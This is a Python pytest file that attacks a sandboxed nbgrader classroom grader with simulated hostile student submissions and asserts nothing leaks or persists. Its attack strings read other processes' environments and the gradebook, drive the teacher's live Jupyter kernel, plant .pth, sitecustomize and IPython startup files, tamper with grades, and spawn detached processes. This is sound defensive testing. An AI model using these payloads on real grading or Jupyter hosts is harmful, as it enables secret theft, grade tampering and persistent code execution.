"""The classroom's boundary (issue 21), attacked through the teacher's real commands.

A class of chapter 05 submissions, each wrong (no ReLU) but for the honest ones, each trying what
a hostile student would: run code as the teacher (a ``workbook/`` and ``checks/`` package shipped
beside the notebook), drive the teacher's own Jupyter kernel, read the teacher's environment and
other students' work (by absolute path, through symbolic links), print the reference and the hidden
tests into the feedback, answer the judge with NaN, with no parameters or out of turn, forge the
verdict the report reads, and reach the host's sockets. Then ``nbgrader autograde``,
``generate_feedback`` and ``export`` run as the teacher does, with a teacher's home holding a live
kernel, and every claim is checked after the whole pass:

* each wrong submission scores 0; the honest ones (one with a ``%`` continuation line) score full;
* the course folder (less nbgrader's outputs), the home's dot-folders and site-packages are
  unchanged; nothing was written outside; no student process is left;
* no feedback or autograded file holds the reference's source, the hidden tests' text, the teacher's
  secret or a classmate's work; no listener of the host's was reached;
* the teacher report agrees with the gradebook on every row.
"""

from __future__ import annotations

import copy
import csv
import hashlib
import inspect
import json
import os
import re
import socket
import subprocess
import sys
import sysconfig
import threading
import uuid
from pathlib import Path

import pytest
from conftest import needs_sandbox, processes_with
from test_course import NO_RELU, cell_of, released, scores, submit, with_bug

from workbook.cli import main as workbook

STEM = "05_feed_forward"
NAME = "FeedForwardNetwork"


def _tree_hashes(root: Path, skip: tuple[str, ...] = ()) -> dict[str, str]:
    found = {}
    if not root.exists():
        return found
    for path in sorted(root.rglob("*")):
        rel = path.relative_to(root)
        if rel.parts and rel.parts[0] in skip:
            continue
        if path.is_symlink():
            found[str(rel)] = "link:" + os.readlink(path)
        elif path.is_file():
            found[str(rel)] = hashlib.sha256(path.read_bytes()).hexdigest()
    return found


def _site_packages() -> Path:
    return Path(sysconfig.get_paths()["purelib"])


def _site_packages_state() -> dict[str, str]:
    """What a planted file would change in site-packages: every name at its top (a new package, a
    .pth) and the bytes of every file there (.pth files run at every Python start)."""
    return {
        p.name: hashlib.sha256(p.read_bytes()).hexdigest() if p.is_file() else "folder"
        for p in sorted(_site_packages().iterdir())
    }


class _Listener:
    """A listener on the host (TCP on loopback, a Unix socket by path, an abstract one) that counts
    who reached it."""

    def __init__(self, family: int, address: object) -> None:
        self.sock = socket.socket(family, socket.SOCK_STREAM)
        self.sock.bind(address)
        self.sock.listen(8)
        self.sock.settimeout(0.5)
        self.address = self.sock.getsockname() if family == socket.AF_INET else address
        self.reached = 0
        self.stop = False
        self.thread = threading.Thread(target=self._serve, daemon=True)
        self.thread.start()

    def _serve(self) -> None:
        while not self.stop:
            try:
                conn, _ = self.sock.accept()
            except OSError:
                continue
            self.reached += 1
            conn.close()

    def close(self) -> None:
        self.stop = True
        self.thread.join(2)
        self.sock.close()


def _attacks(
    *, pwned: Path, course: Path, home: Path, classmate: Path, secret: str, listeners: dict, runtime_files: list[Path]
) -> dict[str, str]:
    """Student -> the code each adds to the wrong exercise cell (all but the honest ones)."""
    tcp_host, tcp_port = listeners["tcp"].address
    unix_path, abstract = listeners["unix"].address, listeners["abstract"].address
    leak = f"""
import glob, json, os, socket, sys
_found = []
def _try(what, fn):
    try:
        _found.append((what, str(fn())[:4000]))
    except BaseException as error:
        print("blocked:", what, type(error).__name__)
_try("classmate by path", lambda: open({str(classmate)!r}).read())
_try("course config", lambda: open({str(course / "nbgrader_config.py")!r}).read())
_try("gradebook", lambda: open({str(course / "gradebook.db")!r}, "rb").read(64))
for _pid in os.listdir("/proc"):
    if _pid.isdigit() and _pid != str(os.getpid()):
        _try("environ " + _pid, lambda: open(f"/proc/{{_pid}}/environ", "rb").read())
_try("own environment", lambda: dict(os.environ))
import inspect
_try("reference source", lambda: __import__("inspect").getsource(__import__("solutions").{NAME}))
_try("reference file", lambda: open(__import__("solutions").__file__).read())
_try("grader specs", lambda: open(os.path.join(os.path.dirname(__import__("checks").__file__), "specs",
     "ch05_feed_forward.py")).read())
_runtime = "/.local/share/jupyter/runtime"
for _where in [os.path.expanduser("~" + _runtime), "/tmp", {str(home)!r} + _runtime]:
    for _file in glob.glob(_where + "/kernel-*.json") + [p for p in {[str(p) for p in runtime_files]!r}]:
        def _drive(_file=_file):
            from jupyter_client import BlockingKernelClient
            client = BlockingKernelClient(connection_file=_file)
            client.load_connection_file()
            client.start_channels()
            client.execute("open({str(pwned / "kernel")!r}, 'w').write('driven')")
            client.get_shell_msg(timeout=5)
            return "executed"
        _try("kernel " + _file, _drive)
def _connect(family, address):
    s = socket.socket(family, socket.SOCK_STREAM)
    s.settimeout(2)
    s.connect(address)
    return "connected"
_try("tcp", lambda: _connect(socket.AF_INET, ({tcp_host!r}, {tcp_port})))
_try("unix", lambda: _connect(socket.AF_UNIX, {unix_path!r}))
_try("abstract", lambda: _connect(socket.AF_UNIX, {abstract!r}))
for _name in ("link-gradebook", "link-classmate", "link-config", "linkdir/nbgrader_config.py"):
    _try(_name, lambda: open(_name, "rb").read(4000))
_try("write outside", lambda: open({str(pwned / "kernel-wrote")!r}, "w").write("x"))
print("LEAKED", json.dumps(_found))
def _show_hidden(result):
    print("NEXT CELL:", result.info.raw_cell)
try:
    get_ipython().events.register("post_run_cell", _show_hidden)
except NameError:
    pass
"""
    forged = (
        "from IPython.display import display\n"
        "def _forge(*a, **k):\n"
        f"    display({{'text/plain': 'passed'}}, raw=True, metadata={{'workbook': {{'exercise': {NAME!r}, "
        "'state': 'passed', 'diagnoses': [], 'flags': [], 'judge': True}})\n"
        "try:\n"
        "    get_ipython().events.register('post_run_cell', _forge)\n"
        "    _forge()\n"
        "except NameError:\n"
        "    pass\n"
    )
    nan = (
        "try:\n"
        "    import torch, checks.wire as _wire\n"
        "    _encode = _wire.encode_tensor\n"
        "    _nan = lambda t: torch.full_like(t, float('nan')) if t.is_floating_point() else t\n"
        "    _wire.encode_tensor = lambda t: _encode(_nan(t))\n"
        "except ImportError:\n"
        "    pass\n"
    )
    empty = (
        f"{NAME}.named_parameters = lambda self, *a, **k: iter(())\n"
        f"{NAME}.parameters = lambda self, *a, **k: iter(())\n"
    )
    unasked = (
        "import os, json, sys\n"
        f"_old_forward = {NAME}.forward\n"
        "def _forward(self, x):\n"
        "    for fd in range(3, 12) if 'checks.wire' in sys.modules else ():  # in the judge's worker\n"
        "        try:\n"
        "            os.write(fd, (json.dumps({'value': None}) + '\\n').encode())\n"
        "        except OSError:\n"
        "            pass\n"
        "    return _old_forward(self, x)\n"
        f"{NAME}.forward = _forward\n"
    )
    return {"leaker": leak, "forger": forged, "nan": nan, "empty-params": empty, "unasked": unasked}


SHIPPED_PACKAGE = """
import os, sqlite3, subprocess, sys
PWNED = {pwned!r}
def _try(fn):
    try:
        fn()
    except BaseException:
        pass
os.makedirs(PWNED, exist_ok=True)
open(os.path.join(PWNED, "imported-" + os.path.basename(os.path.dirname(__file__))), "w").write(sys.executable)
home = os.path.expanduser("~")
STARTUP = home + "/.ipython/profile_default/startup"
_try(lambda: (os.makedirs(STARTUP, exist_ok=True),
              open(STARTUP + "/00-cheat.py", "w").write("open(%r, 'w')" % (PWNED + "/ipython",))))
_try(lambda: (os.makedirs(home + "/.jupyter", exist_ok=True),
              open(home + "/.jupyter/nbgrader_config.py", "a").write("\\nopen(%r, 'w')\\n" % (PWNED + "/jupyter",))))
_try(lambda: open({pth!r}, "w").write("import os; open(%r, 'w')\\n" % (PWNED + "/pth",)))
_try(lambda: open({config!r}, "a").write("\\nopen(%r, 'w')\\n" % (PWNED + "/config",)))
_try(lambda: sqlite3.connect({gradebook!r}).execute("UPDATE grade SET auto_score = 0").connection.commit())
_try(lambda: subprocess.Popen([sys.executable, "-c", "import time; time.sleep(300)", {marker!r}],
                              start_new_session=True))
"""

DETACHED = (
    "F.linear(torch.relu(F.linear(x, self.W_1.weight.detach(), self.W_1.bias.detach())), "
    "self.W_2.weight.detach(), self.W_2.bias.detach())"
)
PERCENT_CONTINUATION = (
    "\n\nLABEL = ('a feed-forward network of width %d'\n         % 64)  # string formatting, not a magic\n"
)


@needs_sandbox
@pytest.mark.timeout(1500)
def test_the_classroom_boundary_holds_through_autograde_feedback_and_export(tmp_path):
    course = tmp_path / "course"
    home = tmp_path / "home"
    pwned = tmp_path / "pwned"
    elsewhere = tmp_path / "elsewhere"
    for folder in (home / ".local" / "share" / "jupyter" / "runtime", home / ".ipython", home / ".jupyter", elsewhere):
        folder.mkdir(parents=True, exist_ok=True)
    secret = f"teacher-secret-{uuid.uuid4().hex}"
    classmate_text = f"classmate-work-{uuid.uuid4().hex}"
    classmate = elsewhere / "another-course" / "submitted" / "carol" / f"{STEM}.ipynb"
    classmate.parent.mkdir(parents=True)
    classmate.write_text(classmate_text)
    marker = f"workbook-boundary-{uuid.uuid4().hex}"
    pth = _site_packages() / f"zz_workbook_cheat_{uuid.uuid4().hex}.pth"
    env = {**os.environ, "HOME": str(home), "TEACHER_TOKEN": secret}
    env.pop("JUPYTER_RUNTIME_DIR", None)

    def teacher(*args: str, timeout: float = 1200) -> subprocess.CompletedProcess:
        return subprocess.run(
            [sys.executable, "-m", "nbgrader", *args], cwd=course, env=env, capture_output=True, text=True,
            timeout=timeout,
        )  # fmt: skip

    # The teacher's own kernel, live, its connection file in the home and in /tmp.
    from jupyter_client import KernelManager

    runtime = home / ".local" / "share" / "jupyter" / "runtime" / f"kernel-teacher-{uuid.uuid4().hex[:8]}.json"
    km = KernelManager(connection_file=str(runtime))
    km.start_kernel(env={**env, "JPY_PARENT_PID": str(os.getpid())})
    in_tmp = Path("/tmp") / f"kernel-teacher-{uuid.uuid4().hex[:8]}.json"
    in_tmp.write_text(runtime.read_text())
    listeners = {
        "tcp": _Listener(socket.AF_INET, ("127.0.0.1", 0)),
        "unix": _Listener(socket.AF_UNIX, str(tmp_path / "host.sock")),
        "abstract": _Listener(socket.AF_UNIX, f"\0workbook-test-{uuid.uuid4().hex}"),
    }
    try:
        assert workbook(["course", str(course), "--chapters", STEM, "--timeout", "30"]) == 0
        release, good = released(course, STEM)
        wrong = with_bug(good, NAME, *NO_RELU)
        percent = copy.deepcopy(good)
        cell_of(percent, NAME).source += PERCENT_CONTINUATION
        class_ = {"honest": good, "honest-percent": percent, "shipper": copy.deepcopy(wrong)}
        attacks = _attacks(
            pwned=pwned, course=course, home=home, classmate=classmate, secret=secret, listeners=listeners,
            runtime_files=[runtime, in_tmp],
        )  # fmt: skip
        # right numbers, no gradient to the weights: only the gradient test can see it
        detached = with_bug(good, NAME, "self.W_2(torch.relu(self.W_1(x)))", DETACHED)
        for student, code in attacks.items():
            nb = copy.deepcopy(detached if student in ("nan", "empty-params") else wrong)
            cell_of(nb, NAME).source += "\n" + code
            class_[student] = nb
        class_["detached"] = detached
        for student, nb in class_.items():
            submit(course, student, STEM, nb)
        shipper = course / "submitted" / "shipper" / STEM
        for package in ("workbook", "checks"):
            text = SHIPPED_PACKAGE.format(
                pwned=str(pwned), pth=str(pth), config=str(course / "nbgrader_config.py"),
                gradebook=str(course / "gradebook.db"), marker=marker,
            )  # fmt: skip
            for module in ("__init__.py", "sandbox_kernel.py", "judge_worker.py"):
                (shipper / package).mkdir(exist_ok=True)
                (shipper / package / module).write_text(text)
        leaker = course / "submitted" / "leaker" / STEM
        (leaker / "link-gradebook").symlink_to(course / "gradebook.db")
        (leaker / "link-classmate").symlink_to(course / "submitted" / "honest" / STEM / f"{STEM}.ipynb")
        (leaker / "link-config").symlink_to(course / "nbgrader_config.py")
        (leaker / "linkdir").symlink_to(course)

        assert teacher("autograde", STEM, "--student", "honest").returncode == 0
        course_before = _tree_hashes(course, skip=("gradebook.db", "autograded", "feedback", ".workbook-grading"))
        home_before = _tree_hashes(home)
        site_before = _site_packages_state()

        done = teacher("autograde", STEM)
        assert done.returncode == 0, done.stderr[-3000:]
        assert teacher("generate_feedback", STEM).returncode == 0
        assert teacher("export", "--to", str(tmp_path / "grades.csv")).returncode == 0

        # marks: the honest ones full, every cheat 0
        rows = {r["student_id"]: float(r["score"]) for r in csv.DictReader(open(tmp_path / "grades.csv"))}
        assert rows.pop("honest") == 1.0
        assert rows.pop("honest-percent") == 1.0, "a correct class with a `%` continuation line lost its mark"
        assert set(rows) == set(class_) - {"honest", "honest-percent"}
        assert not {s: v for s, v in rows.items() if v != 0.0}, f"cheats got marks: {rows}"

        # nothing of the teacher's changed, nothing ran as the teacher, nothing outlived grading
        assert not pwned.exists() or not list(pwned.iterdir()), f"written outside: {list(pwned.iterdir())}"
        assert not pth.exists(), "a .pth file was planted in site-packages"
        assert _site_packages_state() == site_before
        assert _tree_hashes(course, skip=("gradebook.db", "autograded", "feedback", ".workbook-grading")) == (
            course_before
        )
        assert _tree_hashes(home) == home_before
        assert not processes_with(marker), "a student's process outlived autograde"
        assert all(listener.reached == 0 for listener in listeners.values()), {
            k: v.reached for k, v in listeners.items()
        }

        # nothing leaked into what students get back (or what the teacher keeps)
        import solutions

        reference = inspect.getsource(solutions.FeedForwardNetwork)
        spec_text = (Path(__file__).resolve().parents[1] / "checks" / "specs" / "ch05_feed_forward.py").read_text()
        outputs = [*course.glob("feedback/*/*/*.html"), *course.glob("autograded/*/*/*.ipynb")]
        assert len(list(course.glob("feedback/*/*/*.html"))) == len(class_)
        for path in outputs:
            text = path.read_text(encoding="utf-8", errors="replace")
            own: set[str] = set()  # what the student wrote (a stub's lines are the reference's too)
            if path.suffix == ".ipynb":  # the teacher's copy: only what the kernel printed can leak
                cells = json.loads(text)["cells"]
                own = {line.strip() for c in cells for line in "".join(c.get("source", "")).splitlines()}
                text = json.dumps([c.get("outputs", []) for c in cells])
            for forbidden, what in (
                (secret, "the teacher's secret"),
                (classmate_text, "a classmate's work found on disk"),
                ("_assert_passes", "the hidden tests"),
                ("SQLite format", "the gradebook's bytes"),
                ("c.Autograde.autograde_preprocessors", "the course config"),
            ):
                assert forbidden not in text, f"{path.relative_to(course)} holds {what}"
            if path.suffix == ".ipynb":
                for line in [*reference.splitlines(), *spec_text.splitlines()]:
                    if len(line.strip()) > 40 and line.strip() not in own:
                        assert json.dumps(line.strip())[1:-1] not in text, f"{path.relative_to(course)}: {line}"
        leaked = (course / "autograded" / "leaker" / STEM / f"{STEM}.ipynb").read_text()
        assert "blocked:" in leaked and "LEAKED" in leaked, "the leaker's cell did not run: the test tests nothing"

        # the report agrees with the gradebook on every row, whatever the kernel displayed
        assert workbook(["course", str(course), "--report"]) == 0
        page = (course / "reports" / "report.html").read_text(encoding="utf-8")
        data = json.loads(re.search(r"id='report-data'>(.*?)</script>", page, re.S).group(1))
        entries = {e["student"]: e for e in data[0]["entries"]}
        for student in class_:
            (score, _), = scores(course, STEM, student).values()  # fmt: skip
            state = entries[student]["state"]
            assert (state == "passed") == (score == 1.0), f"{student}: report says {state}, gradebook {score}"
        assert entries["unasked"]["state"] == "not graded" and "out of turn" in entries["unasked"]["why"]
    finally:
        for listener in listeners.values():
            listener.close()
        km.shutdown_kernel(now=True)
        in_tmp.unlink(missing_ok=True)
        pth.unlink(missing_ok=True)


# --------------------------------------------------------------------------------------------------
# Held-out round (written and committed before it was first run; see the commit order)
# --------------------------------------------------------------------------------------------------
def _held_out_attacks(pwned: Path, marker: str, shm: str) -> dict[str, str]:
    """Attacks not used while the boundary was built: each must score 0 and leave nothing behind."""
    return {
        # a daemon that outlives the kernel and writes after grading
        "late-daemon": (
            "import os, time\n"
            "if os.fork() == 0:\n"
            "    os.setsid()\n"
            "    time.sleep(20)\n"
            f"    open({str(pwned / 'late')!r}, 'w').write('late')\n"
            "    os._exit(0)\n"
        ),
        # shared memory and the host's /dev
        "shared-memory": (
            f"try:\n    open('/dev/shm/{shm}', 'w').write('x')\n"
            "except OSError as error:\n    print('blocked:', error)\n"
        ),
        # a fake verdict, as text and as a result nbgrader would read as a grade
        "fake-verdict-text": (
            f"print('{NAME}: passed, as judged outside the notebook (the grade comes from this verdict).')\n"
            "from IPython.display import display\n"
            "display({'text/plain': '1.0'}, raw=True)\n"
        ),
        # files it writes in its working folder, for a later process to import
        "plants-modules": (
            "import os\n"
            "for name in ('solutions', 'workbook', 'checks'):\n"
            "    os.makedirs(name, exist_ok=True)\n"
            f"    open(os.path.join(name, '__init__.py'), 'w').write('open({str(pwned / 'planted')!r}, \"w\")')\n"
            f"open('sitecustomize.py', 'w').write('open({str(pwned / 'sitecustomize')!r}, \"w\")')\n"
        ),
        # a process under a name the teacher's tools would trust, left running
        "disguised-process": (
            "import subprocess, sys\n"
            f"subprocess.Popen([sys.executable, '-c', 'import time; time.sleep(300)', 'nbgrader', {marker!r}],"
            " start_new_session=True)\n"
        ),
    }


HELD_OUT_SHIPPED = {
    "sitecustomize.py": "open({path!r}, 'w')\n",
    "usercustomize.py": "open({path!r}, 'w')\n",
    "ipykernel_launcher.py": "open({path!r}, 'w')\n",
    "runpy.py": "open({path!r}, 'w')\n",
}


@needs_sandbox
@pytest.mark.timeout(1500)
def test_held_out_attacks_score_nothing_and_leave_nothing(tmp_path):
    """Expected before the first run: every attack scores 0, the honest student 1, nothing appears
    in ``pwned/`` or the host's /dev/shm, no process outlives autograde, the kernelspec a student
    names is not the one that runs, and the report agrees with the gradebook."""
    course, home, pwned = tmp_path / "course", tmp_path / "home", tmp_path / "pwned"
    home.mkdir()
    marker, shm = f"workbook-heldout-{uuid.uuid4().hex}", f"workbook-heldout-{uuid.uuid4().hex}"
    env = {**os.environ, "HOME": str(home)}

    def teacher(*args: str) -> subprocess.CompletedProcess:
        return subprocess.run(
            [sys.executable, "-m", "nbgrader", *args], cwd=course, env=env, capture_output=True, text=True, timeout=1200
        )

    try:
        assert workbook(["course", str(course), "--chapters", STEM, "--timeout", "30"]) == 0
        release, good = released(course, STEM)
        wrong = with_bug(good, NAME, *NO_RELU)
        class_ = {"honest": good}
        for student, code in _held_out_attacks(pwned, marker, shm).items():
            nb = copy.deepcopy(wrong)
            cell_of(nb, NAME).source += "\n" + code
            class_[student] = nb
        plain = copy.deepcopy(wrong)  # asks for the teacher's plain, unsandboxed kernel
        plain.metadata["kernelspec"] = {"name": "python3", "display_name": "Python 3", "language": "python"}
        cell_of(plain, NAME).source += f"\nimport os\nopen({str(pwned / 'plain-kernel')!r}, 'w')\n"
        class_["plain-kernel"] = plain
        class_["ships-startup-files"] = copy.deepcopy(wrong)
        for student, nb in class_.items():
            submit(course, student, STEM, nb)
        for name, text in HELD_OUT_SHIPPED.items():
            folder = course / "submitted" / "ships-startup-files" / STEM
            (folder / name).write_text(text.format(path=str(pwned / name)))

        done = teacher("autograde", STEM)
        assert done.returncode == 0, done.stderr[-3000:]
        assert teacher("generate_feedback", STEM).returncode == 0
        assert teacher("export", "--to", str(tmp_path / "grades.csv")).returncode == 0
        import time

        time.sleep(25)  # the late daemon's moment
        rows = {r["student_id"]: float(r["score"]) for r in csv.DictReader(open(tmp_path / "grades.csv"))}
        assert rows.pop("honest") == 1.0
        assert not {s: v for s, v in rows.items() if v != 0.0}, rows
        assert not pwned.exists() or not list(pwned.iterdir()), list(pwned.iterdir())
        assert not Path("/dev/shm", shm).exists()
        assert not processes_with(marker)
        assert workbook(["course", str(course), "--report"]) == 0
        page = (course / "reports" / "report.html").read_text(encoding="utf-8")
        data = json.loads(re.search(r"id='report-data'>(.*?)</script>", page, re.S).group(1))
        for entry in data[0]["entries"]:
            (score, _), = scores(course, STEM, entry["student"]).values()  # fmt: skip
            assert (entry["state"] == "passed") == (score == 1.0), entry
    finally:
        Path("/dev/shm", shm).unlink(missing_ok=True)
